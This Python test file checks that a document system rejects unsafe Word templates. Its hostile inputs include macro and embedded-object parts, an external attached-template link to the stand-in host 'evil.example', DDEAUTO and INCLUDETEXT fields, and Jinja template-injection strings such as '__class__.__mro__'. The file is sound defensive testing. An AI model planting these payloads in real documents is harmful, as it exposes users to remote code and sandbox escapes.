"""A changed Word template is tried before it is taken; what could harm or would print nonsense is refused."""

import io
import zipfile

import docx
import pytest

from coso.documents.adapters import writer
from coso.documents.adapters.writer.sample import sample_sheet
from coso.documents.rules.papers import KINDS


def _changed(kind, say, instead):
    """Give the shipped template with some words of its text changed."""
    word = docx.Document(io.BytesIO(writer.shipped_template(kind)))
    for paragraph in [
        *word.paragraphs,
        *(p for t in word.tables for r in t.rows for c in r.cells for p in c.paragraphs),
    ]:
        for run in paragraph.runs:
            run.text = run.text.replace(say, instead)
    stream = io.BytesIO()
    word.save(stream)
    return stream.getvalue()


def _with(data, name, content):
    """Give a package with one part more, or another one in its place."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return stream.getvalue()


def _part(data, name):
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name)


def _fault(data, kind="plan"):
    with pytest.raises(writer.TemplateFault) as refused:
        writer.check_template(data, kind)
    return refused.value.code, refused.value.about


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_the_shipped_template_may_be_put_back_as_it_is(kind):
    writer.check_template(writer.shipped_template(kind), kind)

    assert writer.shipped_template(kind) is writer.shipped_template(kind)


def test_a_template_may_say_more_and_look_otherwise():
    changed = _changed("plan", "Nơi nhận:", "Nơi nhận của Sở:")

    writer.check_template(changed, "plan")

    written = docx.Document(io.BytesIO(writer.write_word(sample_sheet("plan"), changed)))
    assert "Nơi nhận của Sở:" in written.tables[-2].rows[0].cells[0].text


@pytest.mark.parametrize("data", [b"", b"%PDF-1.7", b"PK\x03\x04" + b"\0" * 400, b"hello"])
def test_what_is_no_word_file_is_refused(data):
    assert _fault(data)[0] in {"not_docx", "broken"}


def test_another_kind_of_package_is_no_word_file():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")

    assert _fault(stream.getvalue())[0] == "not_docx"


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"])
def test_macros_and_embedded_objects_are_refused(name):
    assert _fault(_with(writer.shipped_template("plan"), name, "<x/>"))[0] == "macros"


def test_a_macro_type_under_the_name_of_a_plain_one_is_refused():
    data = writer.shipped_template("plan")
    types = _part(data, "[Content_Types].xml").replace(
        b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )

    assert _fault(_with(data, "[Content_Types].xml", types))[0] in {"macros", "not_docx"}


def test_links_to_the_outside_are_refused():
    data = writer.shipped_template("plan")
    rels = _part(data, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
    )

    assert _fault(_with(data, "word/_rels/document.xml.rels", rels))[0] == "external"


@pytest.mark.parametrize("field", ["DDEAUTO c:\\x", "INCLUDETEXT &quot;x&quot;", "INCLUDEPICTURE &quot;x&quot;"])
def test_fields_that_fetch_something_are_refused(field):
    data = writer.shipped_template("plan")
    half = len(field) // 2
    # Word may cut an instruction in two.
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (field[:half], field[half:]))
    xml = _part(data, "word/document.xml").decode().replace("<w:body>", f"<w:body><w:p>{runs}</w:p>", 1)

    assert _fault(_with(data, "word/document.xml", xml.encode()))[0] == "field"


@pytest.mark.parametrize(
    ("mark", "about"),
    [
        ("{{ secret }}", "secret"),
        ("{{ title.__class__ }}", "__class__"),
        ("{{ title|upper }}", "filter"),
        ("{{ title.upper() }}", "call"),
        ("{{ range(9) }}", "call"),
        ("{{ 'a' * 99999999 }}", "mul"),
        ("{{ ''.__class__.__mro__ }}", "__mro__"),
        ("{%p set x = 1 %}", "assign"),
        ("{%p include 'x' %}", "include"),
        ("{{ self }}", "self"),
    ],
)
def test_a_mark_that_no_paper_has_is_refused_and_named(mark, about):
    code, said = _fault(_changed("plan", "{{ title }}", "{{ title }} " + mark))

    assert code == "unknown_mark"
    assert about in said.lower()


@pytest.mark.parametrize("mark", ["{{ title", "{%p if title %}", "{%p endif %}", "{% for x in %}"])
def test_a_mark_that_is_not_closed_is_refused(mark):
    assert _fault(_changed("plan", "{{ title }}", "{{ title }} " + mark))[0] in {"marks", "unknown_mark", "missing"}


def test_a_template_that_leaves_out_the_number_is_refused_by_name():
    assert _fault(_changed("plan", "{{ number }}", "")) == ("missing", "number")


def test_loops_in_loops_in_loops_are_refused():
    deep = "".join(f"{{% for a{at} in body %}}" for at in range(5)) + "x" + "{% endfor %}" * 5

    assert _fault(_changed("plan", "{{ title }}", "{{ title }} " + deep))[0] == "unknown_mark"
